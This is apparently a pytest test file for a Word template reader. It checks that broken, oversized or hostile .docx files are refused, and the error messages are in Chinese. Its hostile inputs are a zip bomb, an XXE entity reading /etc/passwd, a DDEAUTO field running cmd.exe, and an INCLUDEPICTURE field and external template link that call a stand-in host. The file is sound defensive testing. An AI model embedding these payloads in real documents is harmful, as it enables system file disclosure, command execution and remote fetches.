"""What is no sound Word file, or means harm, is an error that says so."""

from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

import pytest

from plangen.writers.docx.reference import archive
from tests.writers.docx.reading import Book
from tests.writers.docx.reference.companies import changed, in_look_of, letterhead, saved


def refused(written: Book) -> str:
    """Return why a file was refused; the document has the usual look."""
    (problem,) = written.problems
    assert (problem.code, problem.path) == ("X906", "reference")
    assert b"1F4E79" in written.parts["word/styles.xml"]
    return problem.message.in_language("zh-CN").partition("用不了：")[2]


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04", b"\x00" * 99, "计划".encode()])
def test_what_is_no_zip(content: bytes, tmp_path: Path):
    file = tmp_path / "模板.docx"
    file.write_bytes(content)
    assert refused(in_look_of(file)) == "不是完好的 Word 文件（.docx）"


def test_a_zip_of_something_else(tmp_path: Path):
    file = tmp_path / "模板.docx"
    with ZipFile(file, "w") as made:
        made.writestr("计划.txt", "2.8亿元")
    assert refused(in_look_of(file)) == "不是完好的 Word 文件（.docx）"


def test_an_old_or_protected_file(tmp_path: Path):
    file = tmp_path / "模板.docx"
    file.write_bytes(bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600))
    assert "密码" in refused(in_look_of(file))


def test_a_zip_bomb(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(archive, "MOST_BYTES", 1_000_000)
    file = saved(letterhead(), tmp_path / "模板.docx")
    with ZipFile(file, "a", ZIP_DEFLATED) as made:
        made.writestr("word/media/image1.png", bytes(2_000_000))
    assert "大得不像" in refused(in_look_of(file))


@pytest.mark.parametrize("part", ["word/styles.xml", "word/document.xml", "word/numbering.xml"])
def test_a_damaged_part(part: str, tmp_path: Path):
    file = saved(letterhead(), tmp_path / "模板.docx")
    changed(file, {part: ("<w:", "<w")})
    assert refused(in_look_of(file)) == "不是完好的 Word 文件（.docx）"


def test_entities_are_not_read(tmp_path: Path):
    file = saved(letterhead(), tmp_path / "模板.docx")
    harm = '<!DOCTYPE w:styles [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:styles '
    changed(file, {"word/styles.xml": ("<w:styles ", harm)})
    assert refused(in_look_of(file)) == "不是完好的 Word 文件（.docx）"


@pytest.mark.parametrize("field", ["DDEAUTO c:\\\\cmd.exe", "INCLUDEPICTURE http://x.example/a"])
def test_fields_that_read_or_run_something(field: str, tmp_path: Path):
    made = letterhead()
    file = saved(made, tmp_path / "模板.docx")
    harm = f'<w:fldSimple w:instr=" {field} "><w:r><w:t>'
    changed(file, {"word/header1.xml": ("<w:r><w:t>", harm)})
    changed(file, {"word/header1.xml": ("</w:t></w:r>", "</w:t></w:r></w:fldSimple>")})
    assert field.split(maxsplit=1)[0] in refused(in_look_of(file))


def test_nothing_outside_the_file_is_referred_to(tmp_path: Path):
    file = saved(letterhead(), tmp_path / "模板.docx")
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    link = (
        f'<Relationship Id="rId99" Type="{office}/attachedTemplate" '
        'Target="http://x.example/a.dotm" TargetMode="External"/></Relationships>'
    )
    changed(file, {"word/_rels/document.xml.rels": ("</Relationships>", link)})
    written = in_look_of(file)
    assert written.problems == ()
    assert not any(b"x.example" in data for data in written.parts.values())


def test_margins_that_leave_no_room(tmp_path: Path):
    file = saved(letterhead(), tmp_path / "模板.docx")
    changed(file, {"word/document.xml": ('w:left="2268"', 'w:left="9000"')})
    assert refused(in_look_of(file)) == "页边距之间放不下正文"
